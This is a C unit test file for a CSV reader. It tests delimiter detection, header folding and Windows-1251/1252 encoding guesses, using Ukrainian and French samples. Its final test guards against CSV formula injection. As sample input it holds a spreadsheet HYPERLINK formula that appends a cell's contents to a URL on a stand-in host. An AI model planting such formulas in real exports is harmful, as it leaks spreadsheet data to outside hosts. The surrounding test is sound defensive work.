/* Unit tests of src/io/csv: the reader over what spreadsheets write (the
 * delimiter of the header line, header names folded, empty rows skipped,
 * Windows-1251 and Windows-1252 read in UTF-8 when asked or clearly
 * guessed, other encodings refused with what to do). The command-line side, with
 * files in those encodings, is tests/cli/spreadsheet_test.py. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "io/csv.h"

struct opened {
    FILE *f;
    struct csv_reader *r;
    struct df_err err;
};

static struct opened *open_text(const char *text, const char *const *required)
{
    static struct opened o;
    memset(&o, 0, sizeof o);
    o.f = fmemopen((void *)text, strlen(text), "rb");
    cr_assert(o.f);
    o.r = csv_reader_open_stream(o.f, "t.csv", required, CODEPAGE_AUTO, &o.err);
    return &o;
}

static void close_text(struct opened *o)
{
    csv_reader_close(o->r);
    fclose(o->f);
}

Test(csv, delimiter_is_the_header_lines)
{
    static const struct {
        const char *text;
        char delim;
        const char *name;
    } cases[] = {
        {"id,name\nx,\"a, b; c\"\n", ',', "a, b; c"},
        {"id;name\nx;a, b\n", ';', "a, b"},
        {"id;name\nx;\"a; b\"\n", ';', "a; b"},
        {"id\tname\nx\ta, b; c\n", '\t', "a, b; c"},
        {"\xEF\xBB\xBFid;name\r\nx;Київ, Львів\r\n", ';', "Київ, Львів"},
        {"\"id;x\",name\nx,a\n", ',', "a"},   /* a quoted ';' is no delimiter */
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct opened *o = open_text(cases[i].text, NULL);
        cr_assert(o->r, "case %zu: %s", i, o->err.msg);
        cr_expect_eq(csv_reader_delimiter(o->r), cases[i].delim, "case %zu", i);
        struct csv_row row;
        cr_assert_eq(csv_reader_next(o->r, &row, &o->err), 1, "case %zu: %s", i, o->err.msg);
        cr_expect_str_eq(csv_get(o->r, &row, "name"), cases[i].name, "case %zu", i);
        close_text(o);
    }
}

/* A quote where CSV allows none (inside a field not in quotes, or text
 * after a closing quote) says how to write the field, by its line, not
 * libcsv's "error parsing data while strict checking enabled". */
Test(csv, a_stray_quote_says_how_to_quote)
{
    static const char *const texts[] = {
        "id;name\nx;ok\ny;ТОВ \"Дніпро\"\n",
        "id,name\nx,ok\ny,\"Dnipro\" LLC\n",
    };
    for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++) {
        struct opened *o = open_text(texts[i], NULL);
        cr_assert(o->r, "case %zu: %s", i, o->err.msg);
        struct csv_row row;
        cr_assert_eq(csv_reader_next(o->r, &row, &o->err), 1, "case %zu: %s", i, o->err.msg);
        cr_assert_eq(csv_reader_next(o->r, &row, &o->err), -1, "case %zu", i);
        cr_expect(strstr(o->err.msg, "t.csv:3: ") == o->err.msg, "case %zu: %s", i, o->err.msg);
        cr_expect(strstr(o->err.msg, "a quote where CSV allows none") &&
                      strstr(o->err.msg, "doubled"),
                  "case %zu: %s", i, o->err.msg);
        close_text(o);
    }
}

/* The reader's own limits and malformations say themselves by code, for
 * the console's import to say them in its language (src/core/codes.h). */
Test(csv, its_limits_are_coded)
{
    static char long_field[CSV_FIELD_MAX + 64];
    memcpy(long_field, "id,title\nx,", 11);
    memset(long_field + 11, 'a', CSV_FIELD_MAX + 1);
    memcpy(long_field + 11 + CSV_FIELD_MAX + 1, "\n", 2);
    static const struct {
        const char *text;
        const char *code;
        const char *msg;
    } cases[] = {
        {long_field, "field_long", "t.csv:2: field 2 is 65537 bytes long"},
        {"id,name\nx,\"open\n", "quote_open", "t.csv:2: unterminated quoted field"},
        {"id,name\r\nx,a\ry,b\r\n", "bare_cr", "t.csv:2: a bare carriage return"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct opened *o = open_text(cases[i].text, NULL);
        cr_assert(o->r, "case %zu: %s", i, o->err.msg);
        struct csv_row row;
        int got;
        while ((got = csv_reader_next(o->r, &row, &o->err)) == 1)
            ;
        cr_assert_eq(got, -1, "case %zu", i);
        cr_expect(strstr(o->err.msg, cases[i].msg) == o->err.msg, "case %zu: %s", i, o->err.msg);
        cr_expect_str_eq(o->err.code ? o->err.code : "(none)", cases[i].code, "case %zu", i);
        close_text(o);
    }
}

Test(csv, tab_delimited_keeps_empty_fields)
{
    struct opened *o = open_text("a\tb\tc\n1\t\t3\n", NULL);
    cr_assert(o->r, "%s", o->err.msg);
    struct csv_row row;
    cr_assert_eq(csv_reader_next(o->r, &row, &o->err), 1);
    cr_expect_eq(row.fields_n, 3);
    cr_expect_str_eq(csv_get(o->r, &row, "b"), "");
    cr_expect_str_eq(csv_get(o->r, &row, "c"), "3");
    close_text(o);
}

Test(csv, header_names_fold_case_and_spaces)
{
    static const char *const required[] = {"id", "email", NULL};
    struct opened *o = open_text(" ID ,EMAIL\xC2\xA0, Ім'я ,ProjectID\nx,a@b.eu,Олена,7\n", required);
    cr_assert(o->r, "%s", o->err.msg);
    cr_expect_eq(csv_reader_column(o->r, "email"), 1);
    cr_expect_eq(csv_reader_column(o->r, "ім'я"), 2, "Cyrillic folds too");
    cr_expect_eq(csv_reader_column(o->r, "projectID"), 3, "CORDIS's camelCase names still match");
    cr_expect_str_eq(csv_reader_header(o->r, 1), "EMAIL", "the file's spelling, trimmed");
    cr_expect_eq(csv_reader_column(o->r, ""), -1);
    close_text(o);
}

Test(csv, names_that_fold_to_one_are_refused)
{
    struct opened *o = open_text("id,name,Name\n", NULL);
    cr_expect_null(o->r);
    cr_expect_str_eq(o->err.msg, "t.csv:1: columns 2 (\"name\") and 3 (\"Name\") have one name, "
                                 "letter case aside: rename or delete one of them");
    fclose(o->f);
    o = open_text("id,name, name\n", NULL);
    cr_expect_null(o->r);
    cr_expect_str_eq(o->err.msg, "t.csv:1: column \"name\" appears twice in the header");
    fclose(o->f);
}

Test(csv, empty_rows_are_skipped_and_trailing_columns_counted)
{
    struct opened *o = open_text(",,,\n\nid,name,,\n,,,\nx,a,,\n\r\n;;;\n,,,\ny,b\n,,,\n", NULL);
    cr_assert(o->r, "%s", o->err.msg);
    cr_expect_eq(csv_reader_columns_n(o->r), 4);
    cr_expect_eq(csv_reader_named_n(o->r), 2);
    struct csv_row row;
    const char *want[] = {"x", ";;;", "y"};
    int lines[] = {5, 7, 9};
    for (int i = 0; i < 3; i++) {
        cr_assert_eq(csv_reader_next(o->r, &row, &o->err), 1, "%s", o->err.msg);
        cr_expect_str_eq(row.fields[0], want[i]);
        cr_expect_eq(row.line, lines[i]);
    }
    cr_expect_eq(csv_reader_next(o->r, &row, &o->err), 0);
    close_text(o);
}

/* Reads text (n bytes) in encoding enc: the reader, or NULL with err set. */
static struct csv_reader *open_bytes(FILE **f, const char *text, size_t n, enum codepage enc,
                                     struct df_err *err)
{
    *f = fmemopen((void *)text, n, "rb");
    cr_assert(*f);
    return csv_reader_open_stream(*f, "t.csv", NULL, enc, err);
}

/* Every row of text read in enc: the refusal's message, or "" when every
 * row was read; *as what the file was read as (CODEPAGE_AUTO when refused at
 * open). */
static const char *read_all(const char *text, enum codepage enc, enum codepage *as)
{
    static struct df_err err;
    memset(&err, 0, sizeof err);
    FILE *f;
    struct csv_reader *r = open_bytes(&f, text, strlen(text), enc, &err);
    *as = r ? csv_reader_encoding(r) : CODEPAGE_AUTO;
    struct csv_row row;
    int got = 0;
    while (r && (got = csv_reader_next(r, &row, &err)) > 0)
        ;
    csv_reader_close(r);
    fclose(f);
    return r && got == 0 ? "" : err.msg;
}

Test(csv, other_encodings_say_what_to_do)
{
    /* read as UTF-8 (asked, or the only reading that is sure) */
    static const struct {
        const char *text;
        enum codepage enc;
        const char *want;
    } cases[] = {
        {"\xFF\xFEi\0d\0", CODEPAGE_AUTO, "t.csv:1: the file is UTF-16"},
        {"\xFE\xFF\0i\0d", CODEPAGE_AUTO, "t.csv:1: the file is UTF-16"},
        {"\xFF\xFEi\0d\0", CODEPAGE_CP1251, "t.csv:1: the file is UTF-16"},
        {"id,name\nx,\xCA\xE8\xBF\xE2\n", CODEPAGE_UTF8,
         "t.csv:2: column \"name\" is not UTF-8 (byte 0xCA at offset 0): the file looks like "
         "8-bit Cyrillic"},
        {"id,name\nx,Soci\xE9t\xE9\n", CODEPAGE_UTF8,
         "t.csv:2: column \"name\" is not UTF-8 (byte 0xE9 at offset 4): the file looks like "
         "8-bit Western European"},
        {"id,name\nx,\xD0\x9A\xD0\xB8\xCA\n", CODEPAGE_UTF8,
         "t.csv:2: column \"name\" is not UTF-8 (byte 0xCA at offset 4); save it as CSV UTF-8"},
        {"id,name\nx,a\xEF\xBF\xBD" "b\n", CODEPAGE_AUTO, "t.csv:2: column \"name\" holds U+FFFD"},
        /* a UTF-8 file with one damaged byte is no Windows-1251 file */
        {"id,name\nx,\xD0\x9B\xD1\x8C\xD0\xB2\xD1\x96\xD0\xB2\xCA\n", CODEPAGE_AUTO,
         "t.csv:2: column \"name\" is not UTF-8 (byte 0xCA at offset 10): the file's other "
         "letters are UTF-8"},
        {"id,name\nx,\xD0\x9A\xD0\xB8\xD1\x97\xD0\xB2\ny,\xD0\x9B\xD1\x8C\xD0\xB2\xD1\x96\xD0"
         "\xB2\xCA\n",
         CODEPAGE_AUTO, "t.csv:3: column \"name\" is not UTF-8 (byte 0xCA at offset 10): line 2 "
                        "holds UTF-8 text"},
        /* a Windows-1251 file with a row added from a UTF-8 one: either
         * reading garbles one of them */
        {"id,name\nx,\xCA\xE8\xBF\xE2 \xC4\xF0\xEE\xED \xD1\xE8\xF1\xF2\xE5\xEC\xE8\n"
         "y,\xD0\x9B\xD1\x8C\xD0\xB2\xD1\x96\xD0\xB2\n",
         CODEPAGE_AUTO, "t.csv:2: column \"name\" is not UTF-8 (byte 0xCA at offset 0): line 3 "
                        "holds UTF-8 text, so the file mixes UTF-8 with another encoding"},
        /* a word in each code page: no guess */
        {"id,name\nx,\xCA\xE8\xBF\xE2 Soci\xE9t\xE9\n", CODEPAGE_AUTO,
         "t.csv:2: column \"name\" is not UTF-8 (byte 0xCA at offset 0): the file looks like "
         "8-bit text, but its words (1 Cyrillic, 1 Western European) do not tell"},
        /* KOI8-U's Опис, capitals and small letters swapped in Windows-1251 */
        {"id,name\nx,\xEF\xD0\xC9\xD3\n", CODEPAGE_AUTO,
         "t.csv:2: column \"name\" is not UTF-8 (byte 0xEF at offset 0): the file looks like "
         "8-bit Cyrillic, but not Windows-1251"},
        /* a UTF-8 file says so with its byte order mark */
        {"\xEF\xBB\xBFid,name\nx,\xCA\xE8\xBF\xE2\n", CODEPAGE_AUTO,
         "t.csv:2: column \"name\" is not UTF-8 (byte 0xCA at offset 0): the file begins with "
         "UTF-8's byte order mark"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        const char *t = cases[i].text;
        size_t n = i < 3 ? 6 : strlen(t);
        FILE *f;
        struct df_err err = {0};
        struct csv_reader *r = open_bytes(&f, t, n, cases[i].enc, &err);
        struct csv_row row;
        int got = r ? csv_reader_next(r, &row, &err) : -1;
        while (got > 0)
            got = csv_reader_next(r, &row, &err);
        cr_expect_eq(got, -1, "case %zu", i);
        cr_expect(strncmp(err.msg, cases[i].want, strlen(cases[i].want)) == 0, "case %zu: %s", i,
                  err.msg);
        cr_expect(strstr(err.msg, "save it as CSV UTF-8"), "case %zu: %s", i, err.msg);
        csv_reader_close(r);
        fclose(f);
    }
}

/* Excel's plain "CSV" on a Ukrainian Windows: Windows-1251, semicolons. */
Test(csv, windows_1251_is_read_in_utf8_byte_for_byte)
{
    /* Київ Дрон; ТОВ «Мотор Січ», АТ; Ґанок Їжак Єнот (every Ukrainian letter
     * outside А-я); a quoted field over two lines */
    static const char text[] =
        "id;name;city\r\n"
        "ua-1;\xCA\xE8\xBF\xE2 \xC4\xF0\xEE\xED;\xCA\xE8\xBF\xE2\r\n"
        "\r\n"
        "ua-2;\xD2\xCE\xC2 \xAB\xCC\xEE\xF2\xEE\xF0 \xD1\xB3\xF7\xBB, \xC0\xD2;\"\xC7\xE0\xEF\xEE"
        "\xF0\xB3\xE6\xE6\xFF\r\n\xA5\xE0\xED\xEE\xEA \xAF\xE6\xE0\xEA \xAA\xED\xEE\xF2\"\r\n"
        "ua-3;\xB4\xBF\xBA\xB3;x\r\n";
    FILE *f;
    struct df_err err = {0};
    struct csv_reader *r = open_bytes(&f, text, strlen(text), CODEPAGE_AUTO, &err);
    cr_assert(r, "%s", err.msg);
    cr_expect_eq(csv_reader_encoding(r), CODEPAGE_CP1251);
    cr_expect_eq(csv_reader_delimiter(r), ';');
    static const struct {
        int line;
        const char *name, *city;
    } want[] = {
        {2, "Київ Дрон", "Київ"},
        {4, "ТОВ «Мотор Січ», АТ", "Запоріжжя\r\nҐанок Їжак Єнот"},
        {6, "ґїєі", "x"},
    };
    struct csv_row row;
    for (size_t i = 0; i < sizeof want / sizeof want[0]; i++) {
        cr_assert_eq(csv_reader_next(r, &row, &err), 1, "row %zu: %s", i, err.msg);
        cr_expect_eq(row.line, want[i].line, "row %zu keeps its line", i);
        cr_expect_str_eq(csv_get(r, &row, "name"), want[i].name, "row %zu", i);
        cr_expect_str_eq(csv_get(r, &row, "city"), want[i].city, "row %zu", i);
    }
    cr_expect_eq(csv_reader_next(r, &row, &err), 0);
    csv_reader_close(r);
    fclose(f);
}

Test(csv, windows_1252_is_read_in_utf8_byte_for_byte)
{
    static const char text[] = "id,name,price\nfr-1,Soci\xE9t\xE9 G\xE9n\xE9rale,5 \x80\n"
                               "de-1,M\xFC\xDFig \x96 Stra\xDF" "e,\x9C" "uvre\n";
    FILE *f;
    struct df_err err = {0};
    struct csv_reader *r = open_bytes(&f, text, strlen(text), CODEPAGE_AUTO, &err);
    cr_assert(r, "%s", err.msg);
    cr_expect_eq(csv_reader_encoding(r), CODEPAGE_CP1252);
    struct csv_row row;
    cr_assert_eq(csv_reader_next(r, &row, &err), 1, "%s", err.msg);
    cr_expect_str_eq(csv_get(r, &row, "name"), "Soci\xC3\xA9t\xC3\xA9 G\xC3\xA9n\xC3\xA9rale");
    cr_expect_str_eq(csv_get(r, &row, "price"), "5 \xE2\x82\xAC", "the euro sign is 0x80");
    cr_assert_eq(csv_reader_next(r, &row, &err), 1, "%s", err.msg);
    cr_expect_str_eq(csv_get(r, &row, "name"), "Müßig – Straße");
    cr_expect_str_eq(csv_get(r, &row, "price"), "œuvre");
    csv_reader_close(r);
    fclose(f);
}

/* The guess on short files and on files with words of both kinds. */
Test(csv, the_guess_needs_the_words_to_agree)
{
    static const struct {
        const char *text;
        enum codepage as;   /* CODEPAGE_AUTO: refused */
    } cases[] = {
        {"id,name\nx,abc\n", CODEPAGE_UTF8},
        {"id,name\nx,\xD0\x9A\xD0\xB8\xD1\x97\xD0\xB2\n", CODEPAGE_UTF8},
        /* one word of two letters is enough either way */
        {"id,name\nx,\xDF\xEA\n", CODEPAGE_CP1251},
        {"id,name\nx,Caf\xE9\n", CODEPAGE_CP1252},
        /* a letter alone (і, в; à) says nothing */
        {"id,name\nx,\xB3\n", CODEPAGE_AUTO},
        {"id,name\nx,a \xE0 b\n", CODEPAGE_AUTO},
        /* Cyrillic typed with a Latin i (Киiв) is still Cyrillic */
        {"id,name\nx,\xCA\xE8i\xE2\n", CODEPAGE_CP1251},
        /* four Cyrillic words to one accented Latin one: Cyrillic */
        {"id,name\nx,\xCA\xE8\xBF\xE2 \xC4\xF0\xEE\xED\ny,\xCB\xFC\xE2\xB3\xE2 Caf\xE9 "
         "\xD1\xE8\xF1\xF2\xE5\xEC\xE8\n", CODEPAGE_CP1251},
        /* three to one: not sure */
        {"id,name\nx,\xCA\xE8\xBF\xE2 \xC4\xF0\xEE\xED\ny,\xCB\xFC\xE2\xB3\xE2 Caf\xE9\n",
         CODEPAGE_AUTO},
        /* English with typographic quotes and dashes alone: the code pages
         * read them alike */
        {"id,name\nx,O\x92" "Brien \x96 \x93" "CEO\x94\xA0\x85\n", CODEPAGE_CP1252},
        /* ... not so a byte they read otherwise (0xB9, № or ¹) */
        {"id,name\nx,O\x92" "Brien \xB9 5\n", CODEPAGE_AUTO},
        /* capitals over і and ї make a UTF-8 sequence here and there (В І = C2 B2):
         * still Windows-1251 */
        {"id,name\nx,\xC2\xB2\xC9\xD1\xDC\xCA\xCE\xC2\xC8\xC9 \xC7\xC0\xC2\xCE\xC4\n",
         CODEPAGE_CP1251},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        enum codepage as;
        const char *msg = read_all(cases[i].text, CODEPAGE_AUTO, &as);
        if (cases[i].as == CODEPAGE_AUTO) {
            cr_expect(*msg, "case %zu is refused", i);
            cr_expect(strstr(msg, "save it as CSV UTF-8"), "case %zu: %s", i, msg);
        } else {
            cr_expect_str_eq(msg, "", "case %zu", i);
            cr_expect_eq(as, cases[i].as, "case %zu read as %s", i, codepage_name(as));
        }
    }
}

Test(csv, an_encoding_asked_for_overrides_the_guess)
{
    /* "\xE0 \xE8" is two letters alone: no guess; asked, either reading */
    static const char lone[] = "id,name\nx,\xE0 \xE8\n";
    static const char cyr[] = "id,name\nx,\xCA\xE8\xBF\xE2\n";
    static const struct {
        const char *text;
        enum codepage enc;
        const char *name;
    } cases[] = {
        {lone, CODEPAGE_CP1251, "а и"},
        {lone, CODEPAGE_CP1252, "à è"},
        {cyr, CODEPAGE_CP1252, "Êè¿â"},   /* asked so: the names show it */
        {"id,name\nx,abc\n", CODEPAGE_CP1251, "abc"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        FILE *f;
        struct df_err err = {0};
        struct csv_reader *r = open_bytes(&f, cases[i].text, strlen(cases[i].text),
                                          cases[i].enc, &err);
        cr_assert(r, "case %zu: %s", i, err.msg);
        cr_expect_eq(csv_reader_encoding(r), cases[i].enc, "case %zu", i);
        struct csv_row row;
        cr_assert_eq(csv_reader_next(r, &row, &err), 1, "case %zu: %s", i, err.msg);
        cr_expect_str_eq(csv_get(r, &row, "name"), cases[i].name, "case %zu", i);
        csv_reader_close(r);
        fclose(f);
    }
    /* UTF-8 asked: today's refusal, by line */
    enum codepage as;
    const char *msg = read_all(cyr, CODEPAGE_UTF8, &as);
    cr_expect(strncmp(msg, "t.csv:2: column \"name\" is not UTF-8 (byte 0xCA at offset 0): the "
                           "file looks like 8-bit Cyrillic (Windows-1251", 80) == 0, "%s", msg);
    cr_expect_eq(as, CODEPAGE_UTF8);
    /* a byte order mark says UTF-8: another encoding asked is refused */
    msg = read_all("\xEF\xBB\xBFid,name\nx,abc\n", CODEPAGE_CP1251, &as);
    cr_expect_str_eq(msg, "t.csv:1: the file begins with UTF-8's byte order mark: it is UTF-8, "
                          "not Windows-1251; read it as UTF-8");
}

Test(csv, a_byte_the_code_page_lacks_is_refused_by_its_line)
{
    enum codepage as;
    /* Windows-1251 has no 0x98, Windows-1252 no 0x81: the line of the
     * original file is named, past a quoted field over two lines */
    const char *msg = read_all("id;name\nx;\"\xCA\xE8\n\xBF\xE2\"\ny;\xC4\xF0\xEE\xED\x98\n",
                               CODEPAGE_AUTO, &as);
    cr_expect_eq(as, CODEPAGE_CP1251);
    cr_expect(strncmp(msg, "t.csv:4: byte 0x98 (at offset 6 of the line) is no character of "
                           "Windows-1251, which the file is read as, its words being Cyrillic",
                      100) == 0, "%s", msg);
    msg = read_all("id,name\nx,Caf\xE9\ny,a\x81\n", CODEPAGE_CP1252, &as);
    cr_expect(strncmp(msg, "t.csv:3: byte 0x81 (at offset 3 of the line) is no character of "
                           "Windows-1252, which the file is read as; ", 80) == 0, "%s", msg);
}

/* A stream that cannot go back (a pipe) is read as UTF-8: no guess. */
Test(csv, a_pipe_is_read_as_utf8)
{
    int fds[2];
    cr_assert_eq(pipe(fds), 0);
    static const char text[] = "id,name\nx,\xCA\xE8\xBF\xE2\n";
    cr_assert_eq(write(fds[1], text, sizeof text - 1), (ssize_t)(sizeof text - 1));
    close(fds[1]);
    FILE *f = fdopen(fds[0], "rb");
    struct df_err err = {0};
    struct csv_reader *r = csv_reader_open_stream(f, "t.csv", NULL, CODEPAGE_AUTO, &err);
    cr_assert(r, "%s", err.msg);
    cr_expect_eq(csv_reader_encoding(r), CODEPAGE_UTF8);
    struct csv_row row;
    cr_expect_eq(csv_reader_next(r, &row, &err), -1);
    cr_expect(strstr(err.msg, "t.csv:2: column \"name\" is not UTF-8"), "%s", err.msg);
    csv_reader_close(r);
    fclose(f);
}

Test(csv, encoding_names)
{
    static const struct {
        const char *name;
        enum codepage cp;
    } cases[] = {{"auto", CODEPAGE_AUTO}, {"UTF-8", CODEPAGE_UTF8}, {"utf8", CODEPAGE_UTF8},
                 {"windows-1251", CODEPAGE_CP1251}, {"CP1251", CODEPAGE_CP1251},
                 {"Windows-1252", CODEPAGE_CP1252}};
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        enum codepage cp = CODEPAGE_AUTO;
        cr_expect_eq(codepage_parse(cases[i].name, &cp), 0, "%s", cases[i].name);
        cr_expect_eq(cp, cases[i].cp, "%s", cases[i].name);
    }
    enum codepage cp;
    cr_expect_eq(codepage_parse("koi8-u", &cp), -1);
    cr_expect_eq(codepage_parse("", &cp), -1);
    cr_expect_str_eq(codepage_name(CODEPAGE_CP1251), "windows-1251");
    cr_expect_str_eq(codepage_label(CODEPAGE_CP1252), "Windows-1252");
}

/* A field a spreadsheet would run as a formula (OWASP's "CSV injection": a
 * participant's name "=HYPERLINK(...)" in the organiser's export) is written
 * with an apostrophe before it, and the reader drops that apostrophe, so
 * every value, apostrophes of its own included, imports back as it was. */
Test(csv, formulas_are_guarded_and_read_back_unchanged)
{
    static const struct {
        const char *value, *written;
    } cases[] = {
        {"=HYPERLINK(\"http://x.test/?\"&A2,\"CV\")", "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A2,\"\"CV\"\")\""},
        {"+380 44 000 00 00", "'+380 44 000 00 00"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\tcmd", "'\tcmd"},
        {"\r=1", "\"'\r=1\""},
        {"'=1", "''=1"},
        {"''@x", "'''@x"},
        {"O'Brien = lead", "O'Brien = lead"},
        {"'quoted'", "'quoted'"},
        {"a-b", "a-b"},
        {"Київ", "Київ"},
        {"", ""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char out[256] = "";
        FILE *w = fmemopen(out, sizeof out, "w");
        csv_write_field(w, cases[i].value);
        fclose(w);
        cr_expect_str_eq(out, cases[i].written, "case %zu", i);

        char text[320];
        snprintf(text, sizeof text, "id,name\nx,%s\n", out);
        struct opened *o = open_text(text, NULL);
        cr_assert(o->r, "case %zu: %s", i, o->err.msg);
        struct csv_row row;
        cr_assert_eq(csv_reader_next(o->r, &row, &o->err), 1, "case %zu: %s", i, o->err.msg);
        cr_expect_str_eq(csv_get(o->r, &row, "name"), cases[i].value, "case %zu read back", i);
        close_text(o);
    }
}
